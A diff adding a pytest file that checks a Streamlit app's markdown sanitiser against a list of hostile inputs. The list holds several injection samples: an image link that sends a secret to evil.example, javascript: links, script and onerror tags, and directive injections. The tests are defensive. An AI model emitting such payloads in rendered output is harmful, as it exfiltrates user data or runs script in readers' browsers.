@@ -1,0 +1,164 @@
+"""What models and documents write is shown as text: nothing loads, links, draws or takes Streamlit's directives."""
+
+from __future__ import annotations
+
+import random
+import re
+
+import pytest
+from markdown_it import MarkdownIt
+
+from pages.parts.safe_markdown import safe_label, safe_markdown, safe_text
+
+BREAK = "\u2060"
+
+HOSTILE = [
+    "![alt](https://evil.example/?q=secret)",
+    "![alt][ref]\n\n[ref]: https://evil.example/x.png",
+    "[![alt](https://evil.example/x.png)](https://evil.example)",
+    "[click](https://evil.example)",
+    "[click](javascript:alert(1))",
+    "[click][ref]\n\n[ref]: https://evil.example",
+    "<https://evil.example>",
+    "see https://evil.example/path?x=1 and www.evil.example and mail me@evil.example",
+    "**https://evil.example**",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<div>\n\n<a href='https://evil.example'>x</a>\n\n</div>",
+    "&lt;img src=x&gt; &#60;b&#62; &amp;lt;",
+    "`<b>` and ``a`b``",
+    "from $5 to $10 and $$x^2$$",
+    ":red[warning] :material/home: :smile: :blue-badge[1] :streamlit: :100: :+1: :shimmer[x] :color[x]{background=red}",
+    ":::note\ninside\n:::\n\n::leaf[x]{y}",
+    "\\:red[x] \\![a](https://evil.example) \\<b>",
+    "| a | b |\n|---|---|\n| ![x](https://evil.example) | `a\\|b` :red[c] |",
+    "- ![x](https://evil.example)\n  - [y](https://evil.example)\n\n> <b>quoted</b>",
+    "```mermaid\ngraph TD; A-->B\n```",
+    "```math\nx^2\n```",
+    "```python\nprint('![x](https://evil.example)') # :red[x]\n```",
+    "text ~~~\n```\nunfinished",
+    "[^1] and\n\n[^1]: https://evil.example",
+    "a\u202eb\x00c",
+]
+
+
+def _parsed(markdown: str) -> tuple[str, list[str]]:
+    """What a Markdown reader that also knows HTML makes of it: all token types, and the texts outside of code."""
+    types, texts = [], []
+    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(markdown):
+        types.append(token.type)
+        for child in token.children or ():
+            types.append(child.type)
+            if child.type == "text":
+                texts.append(child.content)
+    return " ".join(types), texts
+
+
+def _assert_harmless(markdown: str) -> None:
+    types, texts = _parsed(markdown)
+    assert not re.search(r"\b(image|link_open|html_inline|html_block)\b", types), markdown
+    for text in texts:
+        # Streamlit looks for these in the text after parsing, so that no backslash helps.
+        assert not re.search(r"(?:https?://|www\.)[-.\w]|[\w.+-]+@[\w-]+\.\w", text, re.IGNORECASE), markdown
+        assert not re.search(r":[\w+-]+:|:material|(?<!:):[a-zA-Z]+[\[{]", text), markdown
+    # Neither escaped nor in code, there is no dollar sign.
+    assert "$" not in re.sub(r"\\.|(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown, flags=re.DOTALL), markdown
+    assert not re.search(r"```(mermaid|math|latex)", markdown)
+    assert not re.search("[\x00\u202e]", markdown)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markdown_is_harmless(text: str) -> None:
+    _assert_harmless(safe_markdown(text))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markdown_is_harmless_wherever_the_stream_is_cut(text: str) -> None:
+    for end in range(len(text)):
+        _assert_harmless(safe_markdown("Before that: " + text[:end]))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_document_text_is_harmless_with_any_span_marked(text: str) -> None:
+    for start in range(0, len(text), 3):
+        shown = safe_text(text, [(start, start + 5)])
+        # Without the directive itself, but with something in its place: its content is a text of its own.
+        _assert_harmless(re.sub(r":yellow-background\[((?:\\.|[^\]\\])*)\]", r" `mark` \1 `mark` ", shown))
+    _assert_harmless(safe_text(text))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_names_are_harmless_as_labels(text: str) -> None:
+    label = safe_label(text, 200)
+    _assert_harmless(label)
+    assert "\n" not in label
+
+
+def test_random_pieces_put_together_are_harmless() -> None:
+    pieces = [piece for text in HOSTILE for piece in re.findall(r"\w+|\s|.", text)]
+    chance = random.Random(7)
+    for _ in range(2000):
+        _assert_harmless(safe_markdown("".join(chance.choices(pieces, k=chance.randint(2, 25)))))
+
+
+def test_paragraphs_lists_emphasis_code_and_tables_stay() -> None:
+    text = (
+        "First **bold** and *slanted* with `code`.\n\n- one\n- two\n  1. deep\n\n"
+        "```python\nx = [1]\n```\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n> quoted"
+    )
+    assert safe_markdown(text) == text
+
+
+def test_headings_become_small() -> None:
+    assert safe_markdown("# Title\n\n### Part") == "#### Title\n\n##### Part"
+
+
+def test_image_is_named_and_link_shows_where_it_leads() -> None:
+    assert safe_markdown("![a cat](https://x.example/c.png)") == r"\[image: a cat\]"
+    assert safe_markdown("[here](https://x.example)") == "here (`https://x.example`)"
+    assert safe_markdown("<https://x.example>") == "`https://x.example`"
+
+
+def test_markers_are_replaced_where_there_is_such_a_passage() -> None:
+    def marker(number: int) -> str | None:
+        return f"<{number}>" if number < 4 else None
+
+    assert safe_markdown("So [1], so [2][3], so [1, 2].", marker) == "So <1>, so <2><3>, so <1><2>."
+    assert safe_markdown("No [4].", marker) == r"No \[4\]."
+    assert safe_markdown("`code [1]`", marker) == "`code [1]`"
+    assert safe_markdown("[1](https://x.example)", marker) == "<1>"
+
+
+def test_marker_after_a_colon_stays_a_directive() -> None:
+    assert safe_markdown("See:[1]", lambda number: f":blue-badge[{number}]") == f"See:{BREAK}:blue-badge[1]"
+
+
+def test_marked_span_is_highlighted_over_lines() -> None:
+    text = "A first line that is long.\nA second line that is long."
+    shown = safe_text(text, [(2, 35)])
+    assert shown.count(":yellow-background[") == 2
+    assert ":yellow-background[first line that is long.]" in shown
+
+
+def test_overlapping_marks_are_joined() -> None:
+    assert safe_text("abcdef", [(0, 3), (2, 4), (5, 5)]) == ":yellow-background[abcd]ef"
+
+
+def test_brackets_in_a_marked_span_do_not_end_it() -> None:
+    assert safe_text("see [a] there", [(0, 7)]) == r":yellow-background[see \[a\]] there"
+
+
+def test_document_text_is_not_markdown() -> None:
+    assert safe_text("* a_b_c *") == r"\* a\_b\_c \*"
+    assert safe_text("1. first") == r"1\. first"
+
+
+def test_wrapped_lines_are_joined_and_short_ones_kept() -> None:
+    text = "Title\nA line that is as wide as the page allows\nand another one that is about as wide"
+    assert safe_text(text).startswith("Title  \nA line")
+    assert "allows\nand" in safe_text(text)
+
+
+def test_label_is_cut_to_one_line() -> None:
+    assert safe_label("a\nb  c") == "a b c"
+    assert safe_label("x" * 100, 10) == "x" * 9 + "…"
